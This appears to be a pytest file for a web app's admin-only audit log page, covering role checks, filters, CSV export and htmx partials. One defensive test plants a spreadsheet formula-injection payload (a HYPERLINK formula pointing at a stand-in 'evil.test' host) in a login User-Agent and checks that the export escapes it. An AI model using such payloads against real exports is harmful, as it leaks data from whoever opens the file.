"""The audit log page: Admins only; filters by actor, action and date; CSV export; htmx partial."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from unittest import mock

import pytest

from audit.selectors import CSV_HEADER
from audit.services import audit_event_record
from core.actors import Actor
from rbac.roles import Role

URL = "/audit/"


def record_at(when: datetime, action: str, actor_label: str, **kw):
    with mock.patch("audit.services.timezone.now", return_value=when):
        return audit_event_record(action=action, actor=Actor("user", "0", actor_label), **kw)


@pytest.fixture
def log(tenant):
    """A small, dated log in alpha, on top of whatever it already holds (all dated today or later)."""
    return {
        "jan": record_at(datetime(2024, 1, 10, 9, tzinfo=UTC), "member.invited", "carol@alpha.test"),
        "feb": record_at(datetime(2024, 2, 10, 9, tzinfo=UTC), "member.role_changed", "dave@alpha.test"),
        "mar": record_at(datetime(2024, 3, 10, 9, tzinfo=UTC), "member.removed", "carol@alpha.test"),
        "apr": record_at(datetime(2024, 4, 10, 9, tzinfo=UTC), "workspace.settings_changed", "dave@alpha.test"),
    }


def seqs(response) -> list[int]:
    """The event numbers in the rendered table, newest first."""
    body = response.content.decode()
    table = body[body.index('data-testid="audit-events"') :]
    return [int(n) for n in re.findall(r"<tr data-action=\"[^\"]+\">\s*<td>(\d+)</td>", table)]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


# --- who may see it -------------------------------------------------------------------------------


def test_admin_sees_the_log(admin_client, log):
    response = admin_client.get(URL)
    assert response.status_code == 200
    assert b"<h1>Audit log</h1>" in response.content
    assert seqs(response)[:4] == [log["apr"].seq, log["mar"].seq, log["feb"].seq, log["jan"].seq]
    assert b"member.role_changed" in response.content


@pytest.mark.parametrize("role", [Role.MANAGER, Role.ANALYST, Role.VIEWER])
def test_other_roles_are_refused(tenant, make_user, client_for, role):
    client = client_for(tenant, make_user(role=role))
    assert client.get(URL).status_code == 403
    assert client.get(URL, {"format": "csv"}).status_code == 403
    assert client.get(URL, HTTP_HX_REQUEST="true").status_code == 403


def test_anonymous_visitor_is_sent_to_log_in(anon_client):
    response = anon_client.get(URL)
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/?next=/audit/")


def test_deactivated_admin_session_is_refused(tenant, make_user, client_for):
    from accounts.models import User

    other_admin = make_user(role=Role.ADMIN)
    client = client_for(tenant, other_admin)
    User.objects.filter(pk=other_admin.pk).update(is_active=False)
    assert client.get(URL).status_code == 302


# --- filters ---------------------------------------------------------------------------------------


def test_filter_by_actor(admin_client, log):
    response = admin_client.get(URL, {"actor": "carol"})
    assert response.status_code == 200
    assert seqs(response) == [log["mar"].seq, log["jan"].seq]


def test_filter_by_actor_is_case_insensitive(admin_client, log):
    assert seqs(admin_client.get(URL, {"actor": "DAVE@ALPHA"})) == [log["apr"].seq, log["feb"].seq]


def test_filter_by_exact_action(admin_client, log):
    assert seqs(admin_client.get(URL, {"action": "member.role_changed"})) == [log["feb"].seq]


def test_filter_by_resource_prefix(admin_client, log):
    response = admin_client.get(URL, {"action": "member"})
    assert response.status_code == 200
    assert seqs(response) == [log["mar"].seq, log["feb"].seq, log["jan"].seq]


def test_filter_by_date_range(admin_client, log):
    response = admin_client.get(URL, {"date_from": "2024-02-01", "date_to": "2024-03-10"})
    assert response.status_code == 200
    assert seqs(response) == [log["mar"].seq, log["feb"].seq], "both ends of the range are included"


def test_filters_combine(admin_client, log):
    response = admin_client.get(URL, {"actor": "dave", "action": "member", "date_to": "2024-12-31"})
    assert seqs(response) == [log["feb"].seq]


def test_filters_matching_nothing_say_so(admin_client, log):
    response = admin_client.get(URL, {"actor": "nobody-at-all"})
    assert response.status_code == 200
    assert seqs(response) == []
    assert b"No events match these filters." in response.content


@pytest.mark.parametrize(
    "params, field",
    [
        ({"date_from": "not-a-date"}, "date_from"),
        ({"date_to": "2024-13-45"}, "date_to"),
        ({"date_from": "2024-03-01", "date_to": "2024-02-01"}, "date_to"),
        ({"action": "member.exploded"}, "action"),
    ],
)
def test_invalid_filters_are_a_form_error_not_a_crash(admin_client, log, params, field):
    response = admin_client.get(URL, params)
    assert response.status_code == 400
    assert response.context["form"].errors[field]
    assert b'class="error" role="alert"' in response.content


def test_invalid_filter_does_not_export(admin_client, log):
    response = admin_client.get(URL, {"date_from": "yesterday", "format": "csv"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")


# --- CSV export ------------------------------------------------------------------------------------


def test_csv_export_streams_the_filtered_events(admin_client, log):
    response = admin_client.get(URL, {"action": "member", "actor": "carol", "format": "csv"})
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-')

    rows = csv_rows(response)
    assert rows[0] == CSV_HEADER
    body = [dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]]
    assert [int(r["seq"]) for r in body] == [log["mar"].seq, log["jan"].seq]
    assert [r["action"] for r in body] == ["member.removed", "member.invited"]
    assert body[0]["actor"] == "carol@alpha.test"
    assert body[0]["action_label"] == "Member removed"
    assert body[0]["hash"] == log["mar"].hash
    assert body[1]["occurred_at"].startswith("2024-01-10T09:00:00")


def test_csv_export_with_no_match_has_just_the_header(admin_client, log):
    rows = csv_rows(admin_client.get(URL, {"actor": "nobody-at-all", "format": "csv"}))
    assert rows == [CSV_HEADER]


def test_csv_export_is_not_paginated(admin_client, tenant):
    for i in range(60):
        audit_event_record(action="member.invited", actor=Actor("user", "0", "bulk@alpha.test"), changes={"i": i})
    page = admin_client.get(URL, {"actor": "bulk@"})
    assert len(seqs(page)) == 50
    assert b'rel="next"' in page.content
    rows = csv_rows(admin_client.get(URL, {"actor": "bulk@", "format": "csv"}))
    assert len(rows) == 61


def test_csv_cells_keep_commas_quotes_and_newlines(admin_client, tenant):
    tricky = 'Smith, "Jr"\nsecond line'
    audit_event_record(action="member.invited", actor=Actor("user", "0", "tricky@alpha.test"), target=("x", 1, tricky))
    rows = csv_rows(admin_client.get(URL, {"actor": "tricky@", "format": "csv"}))
    assert rows[1][CSV_HEADER.index("target")] == tricky


# --- htmx ---------------------------------------------------------------------------------------------


def test_htmx_request_gets_only_the_table(admin_client, log):
    response = admin_client.get(URL, {"actor": "carol"}, HTTP_HX_REQUEST="true")
    assert response.status_code == 200
    body = response.content.decode()
    assert body.lstrip().startswith('<div class="scroll"><table class="table" data-testid="audit-events">')
    assert "<html" not in body and "<form" not in body and "<nav class" not in body.split("</table>")[0]
    assert seqs(response) == [log["mar"].seq, log["jan"].seq]


def test_full_page_wraps_the_table_in_the_layout_and_filter_form(admin_client, log):
    body = admin_client.get(URL).content.decode()
    assert "<html" in body
    assert 'hx-get="/audit/"' in body
    assert 'id="events"' in body
    assert 'name="format" value="csv"' in body


def test_csv_export_guards_formulas_an_anonymous_request_planted(tenant, anon_client, admin_client):
    """A failed log-in from anyone lands its User-Agent and typed e-mail in the audit log; opened in a
    spreadsheet, the Admin's export must show them as text, never run them."""
    planted = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    anon_client.post("/accounts/login/", {"username": "-2+3@x.test", "password": "wrong"}, HTTP_USER_AGENT=planted)
    rows = csv_rows(admin_client.get(URL, {"action": "user.login_failed", "format": "csv"}))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["user_agent"] == "'" + planted
    assert row["actor"] == "'-2+3@x.test"
    assert not any(cell[:1] and cell[:1] in "=+-@" for r in rows[1:] for cell in r if not cell.lstrip("-").isdigit())


# --- how a change reads ---------------------------------------------------------------------------------


def test_a_record_change_reads_as_fields_before_and_after(admin_client, admin_user, tenant):
    from records.services import collection_create, record_create, record_update

    people = collection_create(
        actor=admin_user,
        name="People",
        slug="people",
        fields=[{"key": "name", "type": "text"}, {"key": "age", "type": "integer"}],
    )
    ada = record_create(actor=admin_user, collection=people, data={"name": "Ada", "age": 36})
    record_update(actor=admin_user, record=ada, data={"name": "Ada L.", "age": None})

    body = admin_client.get(URL, {"action": "record.updated"}).content.decode()

    diff = re.search(r'<table class="diff" data-testid="diff">.*?</table>', body, re.S).group(0)
    rows = re.findall(
        r'<th scope="row">(\w+)</th><td class="before"><del>([^<]*)</del></td><td class="after"><ins>([^<]*)</ins>',
        diff,
    )
    assert rows == [("age", "36", "(empty)"), ("name", "Ada", "Ada L.")]
    assert "{&#x27;" not in body and "{'" not in body  # no raw Python dict on the page


def test_a_bulk_operation_is_one_event_with_its_ids_behind_a_disclosure(admin_client, admin_user, tenant):
    ids = [f"r{i:03d}" for i in range(250)]
    audit_event_record(
        action="records.bulk_deleted",
        actor=admin_user,
        target=("collection", "1", "People"),
        changes={"collection": "people", "count": 250, "ids": ids},
    )

    body = admin_client.get(URL, {"action": "records.bulk_deleted"}).content.decode()

    assert "<dt>count</dt><dd>250</dd>" in body and "<dt>collection</dt><dd>people</dd>" in body
    assert '<details class="ids"><summary>250 record ids</summary>' in body
    assert "r199" in body and "r200" not in body and "… and 50 more (in the CSV export)" in body
